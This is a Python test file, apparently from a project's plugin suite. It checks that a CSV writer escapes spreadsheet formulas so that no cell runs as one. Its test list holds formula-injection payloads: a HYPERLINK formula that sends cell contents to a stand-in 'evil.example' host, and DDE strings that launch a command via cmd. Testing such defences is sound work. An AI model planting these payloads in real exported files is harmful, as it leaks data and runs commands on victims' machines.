"""CSV files in which spreadsheet programs find no formulas."""

import csv
import io
import re

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from plugins.versions.spreadsheets import write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tno formula",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    '"=1+1',
    "'=1+1",
    ' "\t=1+1',
    "＝1+1",
    "＠SUM(1)",
    "-3-1",
    "-",
    "+49 30 1",
]
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?", re.IGNORECASE | re.ASCII)


def written(texts, folder):
    write_csv(pl.DataFrame({"change": ["added"] * len(texts), "caption": texts}, orient="col"), folder / "rows.csv")
    return (folder / "rows.csv").read_bytes().decode()


def cells(text, delimiter):
    lines = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for line in lines for cell in line]


def is_formula(cell):
    bare = re.sub(r"^[\s\0-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2060\ufeff\"`]*", "", cell)
    return bare[:1] in [*"=+-@＝＋－＠"] and not NUMBER.fullmatch(cell)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text, tmp_path):
    cell = cells(written([text], tmp_path), ",")[-1]
    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")


@given(st.text(st.sampled_from("=+-@;\t\r\n \"'a1.,\u200b＝\0"), max_size=12))
def test_no_text_becomes_a_formula(tmp_path_factory, text):
    out = written([text, "next"], tmp_path_factory.getbasetemp())
    assert not [cell for cell in cells(out, ",") if is_formula(cell)]
    # Read with semicolons, the quotes do not protect a cell, since the line begins with another one.
    assert not [cell for line in re.split(r"[\r\n]", out) for cell in line.split(";") if is_formula(cell)]
